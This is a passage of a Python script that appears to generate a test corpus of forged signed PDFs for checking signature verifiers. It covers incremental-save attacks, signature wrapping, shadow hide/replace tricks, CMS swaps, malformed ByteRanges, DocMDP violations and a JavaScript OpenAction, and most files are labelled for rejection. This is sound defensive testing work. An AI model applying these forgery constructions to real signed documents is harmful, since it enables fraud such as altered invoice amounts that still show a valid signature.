                     "modification": "annotations", "status": "allowed_change"}])
    two("clean-certified-p2-form-fill", "certification P=2 of a form, then the text field 'name' filled in",
        lambda: _w(w / "c-p2ff.pdf", form_fill_update(ctx.base("form-ph-certified-p2").data, "name", "Li Si")),
        ["ltv"])
    two("clean-form-fill-unlocked", "approval signature (no field lock), then the field 'name' filled in: "
        "form filling is an allowed change", lambda: _w(w / "c-ff.pdf", form_fill_update(
            ctx.base("form-ph").data, "name", "Li Si")), ["ltv"])
    two("clean-form-fill-shadow-unlocked", "shadow doc signed by qz (field not locked), then 'amount' filled "
        "in: an allowed change (Mainka's replace via form is only detectable when the field is locked)",
        lambda: _w(w / "c-ffs.pdf", form_fill_update(ctx.base("shadow-qz").data, "amount", "900 EUR")),
        ["interop"])
    two("clean-fill-empty-sig-field", "form-fields (empty signature field EmptySig) signed into that field by qz",
        lambda: qz(doc(ctx, "form-fields"), w / "c-fill.pdf", "interop:ecdsa", "--field", "EmptySig"),
        ["interop"], expected="VALID")


def _w(p: Path, data: bytes) -> Path:
    p.write_bytes(data)
    return p


def g_nosig(ctx: Ctx):
    ctx.emit("nosig-plain", "no-signature", "unsigned reportlab file", doc(ctx, "rl-mixed-sizes").read_bytes(),
             "NO_SIGNATURE", None, ["interop"])
    ctx.emit("nosig-empty-field", "no-signature", "only an empty (never signed) signature field",
             doc(ctx, "form-fields").read_bytes(), "NO_SIGNATURE", None, ["interop"])


def g_trust(ctx: Ctx):
    bs = ctx.base("qz-ec")
    ctx.emit("untrusted-wrong-root", "untrusted", "clean qz file verified against an unrelated trust root",
             bs.data, "BROKEN", "qz-ec", ["ltv"])
    w = ctx.work
    signing.ph_sign(ctx.pkis, doc(ctx, "rl-a4-chinese"), w / "u-self.pdf", "self:mallory", "Mallory")
    ctx.emit("untrusted-self-signed", "untrusted", "signed with a self-signed certificate (not under --trust)",
             (w / "u-self.pdf").read_bytes(), "BROKEN", None, ["interop", "ltv"])
    signing.ph_sign(ctx.pkis, doc(ctx, "rl-a4-chinese"), w / "u-exp.pdf", "interop:expired", "Expired")
    ctx.emit("untrusted-expired", "untrusted", "signer certificate expired in 2021, no timestamp",
             (w / "u-exp.pdf").read_bytes(), "BROKEN", None, ["interop"])
    signing.ph_sign(ctx.pkis, doc(ctx, "rl-a4-chinese"), w / "u-rev.pdf", "ltv:dave", "Dave")
    signing.ph_add_dss(ctx.pkis, w / "u-rev.pdf", w / "u-rev-dss.pdf")
    ctx.emit("untrusted-revoked", "untrusted", "signer revoked (keyCompromise) before signing; the CRL is in the DSS",
             (w / "u-rev-dss.pdf").read_bytes(), "BROKEN", None, ["ltv"])


USF_BASES = ("qz-ec", "ph-rsa", "qz-rsa", "ph-p384")


def g_usf(ctx: Ctx):
    rnd = random.Random(1)
    for bn in USF_BASES:
        bs = ctx.base(bn)
        data = bs.data
        sig = pb.signatures(data)[-1]
        a, b, c, d = sig.byte_range
        gap = c - b

        def emit(kind, desc, out, cls="usf"):
            ctx.emit(f"{cls}-{kind}-{bn}", cls, desc, out, REJECT, bn, bs.trust)

        # /Contents in place (the gap is not signed: the signed bytes stay intact)
        emit("contents-empty", "/Contents <> (in the unsigned gap)", pb.fill_gap(data, sig, b"<>"))
        emit("contents-zero", "/Contents all zeros", pb.fill_gap(data, sig, b"<" + b"0" * (gap - 2) + b">"))
        emit("contents-garbage", "/Contents random hex",
             pb.fill_gap(data, sig, b"<" + bytes(rnd.choice(b"0123456789ABCDEF") for _ in range(gap - 2)) + b">"))
        emit("contents-truncated", "/Contents: the CMS cut in half",
             pb.fill_gap(data, sig, pb.hex_contents(sig.cms[:len(sig.cms) // 2], gap)))
        cert_der = re.search(rb"-----BEGIN CERTIFICATE-----(.*?)-----END", Path(
            ctx.pkis.files(bs.signer)[1]).read_bytes(), re.S).group(1)
        import base64
        emit("contents-not-cms", "/Contents holds the signer's certificate (DER) instead of a CMS",
             pb.fill_gap(data, sig, pb.hex_contents(base64.b64decode(cert_der), gap)))
        # the /Contents key renamed in place (changes signed bytes before the gap)
        kpos = data.rfind(b"/Contents", 0, b)
        emit("contents-missing-inplace", "/Contents key renamed to /Contentz in place",
             data[:kpos] + b"/Contentz" + data[kpos + 9:])
        # the signature dictionary redefined in an incremental update (Mladenov's USF)
        junk = "<" + "".join(rnd.choice("0123456789ABCDEF") for _ in range(512)) + ">"
        for kind, key, val, desc in [
            ("contents-missing", b"Contents", None, "update: signature dictionary without /Contents"),
            ("contents-empty-upd", b"Contents", b"<>", "update: /Contents <>"),
            ("contents-null", b"Contents", b"null", "update: /Contents null"),
            ("contents-garbage-upd", b"Contents", junk.encode(), "update: /Contents random hex"),
            ("byterange-missing", b"ByteRange", None, "update: no /ByteRange"),
            ("byterange-null", b"ByteRange", b"null", "update: /ByteRange null"),
            ("byterange-empty", b"ByteRange", b"[]", "update: /ByteRange []"),
            ("byterange-3", b"ByteRange", b"[0 %d %d]" % (b, c), "update: /ByteRange with 3 numbers"),
            ("byterange-2", b"ByteRange", b"[0 %d]" % b, "update: /ByteRange with 2 numbers"),
            ("byterange-5", b"ByteRange", b"[0 %d %d %d 0]" % (b, c, d), "update: /ByteRange with 5 numbers"),
            ("byterange-nonint", b"ByteRange", b"[0 %d.5 %d /D]" % (b, c), "update: /ByteRange with a real and a name"),
            ("byterange-string", b"ByteRange", b"(0 %d %d %d)" % (b, c, d), "update: /ByteRange as a string"),
            ("byterange-negative", b"ByteRange", b"[0 %d %d -%d]" % (b, c, d), "update: negative length"),
            ("byterange-negative-start", b"ByteRange", b"[-10 %d %d %d]" % (b + 10, c, d), "update: negative offset"),
            ("byterange-overlap", b"ByteRange", b"[0 %d %d %d]" % (b, b - 64, d + (c - b) + 64),
             "update: second range starts inside the first and covers the gap"),
            ("byterange-zero", b"ByteRange", b"[0 0 0 0]", "update: /ByteRange [0 0 0 0]"),
            ("byterange-beyond-eof", b"ByteRange", b"[0 %d %d %d]" % (b, c, d + 10 ** 6), "update: beyond EOF"),
            ("byterange-partial", b"ByteRange", b"[0 %d %d %d]" % (b, c, d - 100),
             "update: second range stops 100 bytes before the end of the signed revision"),
            ("byterange-reversed", b"ByteRange", b"[%d %d 0 %d]" % (c, d, b), "update: ranges in reverse order"),
            ("byterange-no-gap", b"ByteRange", b"[0 %d %d %d]" % (b, b, c - b + d), "update: no gap, /Contents hashed"),
            ("subfilter-unknown", b"SubFilter", b"/Qz.Unknown.detached", "update: unknown /SubFilter"),
            ("subfilter-missing", b"SubFilter", None, "update: no /SubFilter"),
            ("filter-unknown", b"Filter", b"/Qz.UnknownHandler", "update: unknown /Filter"),
            ("filter-missing", b"Filter", None, "update: no /Filter"),
            ("type-doctimestamp", b"SubFilter", b"/ETSI.RFC3161",
             "update: /SubFilter ETSI.RFC3161 on a CMS signature (not a timestamp token)"),
        ]:
            emit(kind, desc, upd_sig_dict(data, sig, lambda body, k=key, v=val: sub_key(body, k, v)))
        # ByteRange edited in place (same width): the signed bytes change
        for kind, rng, desc in [("byterange-partial-inplace", [0, b, c, d - 50], "in place: 50 bytes short"),
                                ("byterange-overlap-inplace", [0, b, b - 8, d + c - b + 8], "in place: overlapping"),
                                ("byterange-negative-inplace", [0, b, c, -d], "in place: negative length")]:
            try:
                emit(kind, desc, pb.set_byte_range_text(data, sig, rng))
            except ValueError as e:
                ctx.skipped.append({"name": f"usf-{kind}-{bn}", "reason": str(e)})
        # valid CMS over a malformed ByteRange: only a structure check catches these
        signer = bs.signer
        emit("resigned-partial", "re-signed (valid CMS) with a ByteRange that leaves the revision's "
             "last 60 bytes (trailer, startxref) unsigned", resign(ctx, data, sig, signer, [0, b, c, d - 60]))
        emit("resigned-not-from-zero", "re-signed (valid CMS) over [9 .. b] + [c .. end]: the header is unsigned",
             resign(ctx, data, sig, signer, [9, b - 9, c, d]))
        emit("resigned-gap-shifted", "re-signed (valid CMS); the gap starts 3 bytes into the hex string, so "
             "it is not exactly the /Contents value", resign(ctx, data, sig, signer, [0, b + 3, c, d], gap_start=b + 3))
        emit("resigned-gap-wide", "re-signed (valid CMS); the gap also swallows the 10 bytes before '<' "
             "(part of the dictionary is unsigned)", resign(ctx, data, sig, signer, [0, b - 10, c, d]))


def g_cms_swap(ctx: Ctx):
    donors = [("same-signer-other-doc", "qz-ec", "qz-ec-a4", "CMS of another document signed by the same key"),
              ("other-signer", "qz-rsa", "ph-p384", "CMS of a pyHanko signature by another signer (P-384)"),
              ("qz-other-signer", "qz-rsa", "qz-ec", "CMS of a qz signature by another signer")]
    for kind, tname, dname, desc in donors:
        tgt, donor = ctx.base(tname), ctx.base(dname)
        tsig = pb.signatures(tgt.data)[-1]
        dsig = pb.signatures(donor.data)[-1]
        ctx.emit(f"cms-swap-{kind}", "cms-swap", desc + " written into /Contents",
                 pb.fill_gap(tgt.data, tsig, pb.hex_contents(dsig.cms, tsig.gap[1] - tsig.gap[0])),
                 REJECT, tname, sorted(set(tgt.trust + donor.trust)))
    tgt = ctx.base("qz-ec")
    tsig = pb.signatures(tgt.data)[-1]
    # pyHanko target, qz donor
    tgt2 = ctx.base("ph-rsa")
    s2 = pb.signatures(tgt2.data)[-1]
    dsig = pb.signatures(ctx.base("qz-ec").data)[-1]
    ctx.emit("cms-swap-into-pyhanko", "cms-swap", "CMS of a qz signature written into a pyHanko signature's /Contents",
             pb.fill_gap(tgt2.data, s2, pb.hex_contents(dsig.cms, s2.gap[1] - s2.gap[0])), REJECT, "ph-rsa",
             ["interop", "ltv"])
    # whole signature dictionary of another document, via an update
    donor = ctx.base("qz-ec-a4")
    dsig = pb.signatures(donor.data)[-1]
    dtext = donor.data[dsig.obj_offset:dsig.obj_end]
    dbody = dtext[dtext.index(b"obj") + 3:dtext.rindex(b"endobj")].strip()
    ctx.emit("cms-swap-sigdict", "cms-swap", "update: the signature dictionary replaced by the one of another "
             "document (its CMS and ByteRange)", upd_sig_dict(tgt.data, tsig, lambda body: dbody), REJECT,
             "qz-ec", ["interop"])
    # two signatures in one file: swap their CMS
    p = ctx.work / "c-qz-twice.pdf"
    if p.is_file():
        data = p.read_bytes()
        s1, s2 = pb.signatures(data)[-2:]
        g1, g2 = s1.gap[1] - s1.gap[0], s2.gap[1] - s2.gap[0]
        out = pb.fill_gap(pb.fill_gap(data, s1, pb.hex_contents(s2.cms, g1)), s2, pb.hex_contents(s1.cms, g2))
        ctx.emit("cms-swap-between-signatures", "cms-swap", "two qz signatures with their CMS swapped", out,
                 REJECT, "clean-qz-twice", ["interop"])


ISA_BASES = ("qz-ec", "qz-rsa", "ph-rsa", "ph-p384")


def g_isa(ctx: Ctx):
    for bn in ISA_BASES:
        bs = ctx.base(bn)
        data = bs.data
        r = reader(data)
        cnum = content_refs(r, 0)[0]

        def emit(kind, desc, out, cls="isa"):
            ctx.emit(f"{cls}-{kind}-{bn}", cls, desc, out, REJECT, bn, bs.trust)

        emit("content", "update: page 1 gets an extra content stream (red block)", page_content_update(data))
        emit("page", "update: a page added", add_page_update(data))
        emit("annot-freetext", "update: a FreeText annotation 'PAID IN FULL' on page 1 (not certified: "
             "annotations are not a permitted change)", annot_update(data, "FreeText"))
        emit("annot-link", "update: a page-sized Link annotation to an attacker URL", annot_update(data, "Link"))
        emit("info", "update: /Info rewritten (title, author)", info_update(data))
        emit("catalog-openaction", "update: catalog gets a JavaScript /OpenAction", catalog_update(data))
        # without a proper xref
        obj = b"%d 0 obj\n" % cnum + pb.stream_obj(RED_BLOCK) + b"\nendobj\n"
        emit("noxref", "page 1's content object redefined after %%EOF, no xref, no trailer",
             data + obj)
        emit("noxref-trailer", "redefined object + trailer/startxref but no xref table",
             data + obj + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
             % (pb.trailer(data).size, pb.trailer(data).root[0], len(data)))
        u = pb.Update(data)
        u.add(cnum, pb.stream_obj(RED_BLOCK))
        emit("bogus-xref", "update redefining page 1's content with an xref whose offsets are wrong "
             "(readers must reconstruct)", u.bytes(bogus_offsets=7))
        u = pb.Update(data)
        u.add(cnum, pb.stream_obj(RED_BLOCK))
        emit("content-overwrite", "update: page 1's content stream object overwritten (same number)", u.bytes())
    # an illegal change buried under a later, perfectly valid signature
    w = ctx.work
    bs = ctx.base("qz-ec")
    (w / "i-mod.pdf").write_bytes(page_content_update(bs.data))
    signing.qz_sign(ctx.need_qz(), ctx.pkis, w / "i-mod.pdf", w / "i-mod-signed.pdf", "interop:rsa2048")
    ctx.emit("isa-content-then-signed-qz-ec", "isa", "page content added after the first signature, then a "
             "second (valid, entire-file) qz signature on top: the first one is still MODIFIED",
             (w / "i-mod-signed.pdf").read_bytes(), REJECT, "qz-ec", bs.trust)
    p = w / "c-qz-twice.pdf"
    if p.is_file():
        ctx.emit("isa-content-after-two-signatures", "isa", "two qz signatures, then page content added",
                 page_content_update(p.read_bytes()), REJECT, "clean-qz-twice", ["interop"])
    # one written by a real tool: pyHanko's incremental writer
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    bs = ctx.base("qz-ec")
    w = IncrementalPdfFileWriter(io.BytesIO(bs.data))
    ref = w.add_object(generic.StreamObject(stream_data=RED_BLOCK))
    w.add_stream_to_page(0, ref)
    buf = io.BytesIO()
    w.write(buf)
    ctx.emit("isa-content-pyhanko-writer-qz-ec", "isa", "pyHanko's IncrementalPdfFileWriter adds a content stream "
             "to page 1", buf.getvalue(), REJECT, "qz-ec", bs.trust)


def g_docmdp(ctx: Ctx):
    w = ctx.work
    p1 = doc(ctx, "certified-p1").read_bytes()
    p2 = doc(ctx, "certified-p2").read_bytes()
    ctx.emit("docmdp-p1-annotation", "docmdp", "certification P=1 (no changes), then a FreeText annotation",
             annot_update(p1, "FreeText"), REJECT, None, ["interop"])
    from unittest import mock
    from pyhanko.sign.signers.pdf_signer import PdfSigner
    with mock.patch.object(PdfSigner, "_enforce_certification_constraints", lambda self, r: None):
        # pyHanko (like qz) refuses to sign a P=1 document: switch that check off
        signing.ph_sign(ctx.pkis, doc(ctx, "certified-p1"), w / "d-p1s.pdf", "ltv:alice", "Alice")
    ctx.emit("docmdp-p1-signature", "docmdp", "certification P=1, then an approval signature",
             (w / "d-p1s.pdf").read_bytes(), REJECT, None, ["interop", "ltv"])
    ctx.emit("docmdp-p1-form-fill", "docmdp", "certified P=1 form: nothing may change, field filled anyway",
             form_fill_update(_certify_form(ctx, 1), "name", "Mallory"), REJECT, None, ["ltv"])
    ctx.emit("docmdp-p2-annotation", "docmdp", "certification P=2 (forms only), then a FreeText annotation",
             annot_update(p2, "FreeText"), REJECT, None, ["interop"])
    ctx.emit("docmdp-p2-content", "docmdp", "certification P=2, then page content added",
             page_content_update(p2), REJECT, None, ["interop"])


def _certify_form(ctx: Ctx, p: int) -> bytes:
    out = ctx.work / f"form-cert-p{p}.pdf"
    signing.ph_sign(ctx.pkis, doc(ctx, "form-fields"), out, "ltv:alice", "Certification", certify=p)
    return out.read_bytes()


def g_shadow(ctx: Ctx):
    S = SHADOW
    for bn in ("shadow-qz", "shadow-ph"):
        bs = ctx.base(bn)
        data, off = bs.data, bs.shadow_offsets

        def emit(cls, kind, desc, out):
            ctx.emit(f"{cls}-{kind}-{bn}", cls, desc, out, REJECT, bn, bs.trust)

        u = pb.Update(data)
        u.add(S["occonfig"], b"<< /Name (Default) /Order [9 0 R] /ON [] /OFF [9 0 R] >>")
        emit("shadow-hide", "ocg", "update: the optional content group of the white cover is switched OFF, "
             "revealing the hidden 'Late fee' text", u.bytes())
        u = pb.Update(data)
        u.redirect(S["cover"], off[("shadow", S["cover"])])
        emit("shadow-hide", "xref-swap", "xref-only update: the cover stream (6) now points at an empty copy "
             "'6 0 obj' that was already in the signed revision", u.bytes())
        u = pb.Update(data)
        u.free(S["cover"])
        emit("shadow-hide", "xref-free", "xref-only update: the cover stream (6) is marked free", u.bytes())
        u = pb.Update(data)
        u.add(S["font"], b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
                         b"/BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
        emit("shadow-replace", "font", "update: the font is overwritten so that every '1' is drawn as '9' "
             "(100 EUR reads 900 EUR)", u.bytes())
        # overlay: a new form field whose appearance covers signed text
        r = reader(data)
        from pyhanko.pdf_utils import generic
        u = pb.Update(data)
        ap = u.new(pb.stream_obj(b"q 1 1 1 rg 0 0 480 30 re f Q BT /Helv 14 Tf 0 g 2 9 Td "
                                 b"(Amount due: 1,000,000 EUR) Tj ET",
                                 b"/Type /XObject /Subtype /Form /BBox [0 0 480 30] /Resources << /Font "
                                 b"<< /Helv 7 0 R >> >> "))
        fld = u.new(b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (overlay) /V (Amount due: 1,000,000 EUR) "
                    b"/Rect [66 720 546 750] /P 3 0 R /F 4 /Ff 1 /DA (/Helv 14 Tf 0 g) /AP << /N %d 0 R >> >>" % ap)
        af = dcopy(r.root["/AcroForm"])
        fields = af.raw_get("/Fields")
        fields = fields.get_object() if hasattr(fields, "idnum") else fields
        af[generic.NameObject("/Fields")] = generic.ArrayObject(
            [fields.raw_get(i) for i in range(len(fields))] + [generic.IndirectObject(fld, 0, r)])
        u.add(S["acroform"], pb.ser(af))
        add_annot(u, r, 0, fld)
        emit("shadow-replace", "form-overlay", "update: a new read-only text field whose appearance covers "
             "the 'Amount due' line", u.bytes())
        u = pb.Update(data)
        u.redirect(S["content"], off[("shadow", S["content"])])
        emit("shadow-hide-replace", "xref-swap", "xref-only update: the page content (4) now points at a "
             "different '4 0 obj' already present (unused) in the signed revision", u.bytes())
        u = pb.Update(data)
        u.trailer_set(b"Root", b"%d 0 R" % S["catalog2"])
        emit("shadow-hide-replace", "root-swap", "trailer-only update: /Root points at an unused catalog of "
             "the signed revision (another page tree, same AcroForm with the signature)", u.bytes())
    bs = ctx.base("shadow-ph-locked")
    ctx.emit("shadow-replace-form-locked-shadow-ph-locked", "shadow-replace",
             "the signature locks field 'amount' (FieldMDP /Include); the update fills it with '900 EUR'",
             form_fill_update(bs.data, "amount", "900 EUR"), REJECT, "shadow-ph-locked", bs.trust)


SWA_BASES = ("ph-rsa", "ph-p384", "qz-ec", "qz-rsa")


def g_swa(ctx: Ctx):
    for bn in SWA_BASES:
        bs = ctx.base(bn)
        sig = pb.signatures(bs.data)[-1]
        cnum = content_refs(reader(bs.data), 0)[0]
        after = sig.br_span[0] >= sig.gap[1]
        ctx.emit(f"swa-relocate-{bn}", "swa",
                 "signed part 2 moved to the end, malicious page content + xref placed in the enlarged gap, "
                 "ByteRange rewritten to [0 b c' d]" + (" (ByteRange lies after /Contents: the CMS still "
                                                        "verifies)" if after else " (ByteRange is signed here)"),
                 swa(bs.data, sig, cnum), REJECT, bn, bs.trust)


def g_gap(ctx: Ctx):
    for bn in ("qz-ec", "ph-rsa", "qz-rsa"):
        bs = ctx.base(bn)
        sig = pb.signatures(bs.data)[-1]
        cnum = content_refs(reader(bs.data), 0)[0]
        for mode, desc in [("pad", "an object hidden in the gap as /Pad (...) after a shortened /Contents, "
                                   "the page content redirected to it by an xref-only update"),
                           ("raw", "object bytes written into the zero padding of /Contents, the page "
                                   "content redirected to it by an xref-only update"),
                           ("extra-key", "unsigned extra key /Pad (...) in the gap, nothing else changed")]:
            ctx.emit(f"contents-gap-{mode}-{bn}", "contents-gap", desc, gap_object(bs.data, sig, cnum, mode),
                     REJECT, bn, bs.trust)


def g_digest(ctx: Ctx):
    for bn in ("qz-ec", "ph-p384"):
        bs = ctx.base(bn)
        data = bytearray(bs.data)
        r = reader(bs.data)
        pnum = page_refs(r)[0].idnum
        off = pb.parse_xref(bs.data).offset(pnum)
        m = re.compile(rb"/MediaBox\s*\[\s*0\s+0\s+(\d)").search(bs.data, off)
        data[m.start(1)] = ord("9") if data[m.start(1)] != ord("9") else ord("8")
        ctx.emit(f"digest-mediabox-{bn}", "digest", "one digit of page 1's /MediaBox changed in the signed bytes",
                 bytes(data), REJECT, bn, bs.trust)


GROUPS = [
    ("clean", g_clean), ("no-signature", g_nosig), ("untrusted", g_trust), ("usf", g_usf),
    ("cms-swap", g_cms_swap), ("isa", g_isa), ("docmdp", g_docmdp), ("shadow", g_shadow), ("swa", g_swa),
    ("contents-gap", g_gap), ("digest", g_digest),
]


def make_attacks(outdir: Path, pki: Path | None = None, judge: bool = True, only: set[str] | None = None,
                 log=print) -> dict:
    outdir = Path(outdir).resolve()
    outdir.mkdir(parents=True, exist_ok=True)
    if pki is None:
        pki = outdir / "pki"
    pki = Path(pki).resolve()
    if not (pki / "pki.json").is_file():
        make_pki.make_pki(pki)
    pkis = signing.Pkis(pki, ensure_ltv_pki(pki))
    ctx = Ctx(outdir, pkis, signing.qz_bin(), judge, log)
    t0 = time.monotonic()
    build_docs(ctx)
    build_bases(ctx)
    log(f"  bases: {', '.join(ctx.bases)} ({time.monotonic() - t0:.1f}s)")
    for label, fn in GROUPS:
        if only and label not in only:
            continue
        t = time.monotonic()
        n = len(ctx.entries)
        try:
            fn(ctx)
        except Skip as e:
            ctx.skipped.append({"name": label, "reason": str(e)})
        except Exception as e:  # noqa: BLE001
            ctx.errors.append({"name": label, "error": f"{type(e).__name__}: {e}", "traceback": traceback.format_exc()})
            log(f"  ERROR {label}: {type(e).__name__}: {e}")
        log(f"  {label}: {len(ctx.entries) - n} files ({time.monotonic() - t:.1f}s)")
    classes: dict[str, int] = {}
    for e in ctx.entries:
        classes[e["class"]] = classes.get(e["class"], 0) + 1
    m = {"files": ctx.entries, "skipped": ctx.skipped, "errors": ctx.errors, "classes": classes,
         "pki": str(pki), "qz": str(ctx.qz) if ctx.qz else None}
    (outdir / "manifest.json").write_text(json.dumps(m, ensure_ascii=False, indent=1, default=str) + "\n")
    return m


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("outdir", type=Path)
    ap.add_argument("--pki", type=Path, help="tests/interop/make_pki.py PKI (default OUTDIR/pki, made if absent)")
    ap.add_argument("--no-judge", action="store_true", help="do not run pyHanko on every file")
    ap.add_argument("--only", help="comma-separated groups: " + ",".join(g for g, _ in GROUPS))
    a = ap.parse_args()
    t0 = time.monotonic()
    m = make_attacks(a.outdir, a.pki, judge=not a.no_judge, only=set(a.only.split(",")) if a.only else None,
                     log=lambda s: print(s, file=sys.stderr))
    fooled = [e for e in m["files"] if e.get("pyhanko_agrees") is False]
    print(f"{len(m['files'])} files ({', '.join(f'{k} {v}' for k, v in m['classes'].items())}), "
          f"{len(m['skipped'])} skipped, {len(m['errors'])} errors in {time.monotonic() - t0:.1f}s "
          f"-> {a.outdir / 'manifest.json'}", file=sys.stderr)
    for e in fooled:
        print(f"  pyHanko disagrees: {e['name']}: expected {'/'.join(e['expected'])}, pyHanko "
              f"{e['pyhanko']['verdict']}", file=sys.stderr)
    for e in m["errors"]:
        print(e.get("traceback") or e["error"], file=sys.stderr)
    return 1 if m["errors"] else 0


if __name__ == "__main__":
    sys.exit(main())
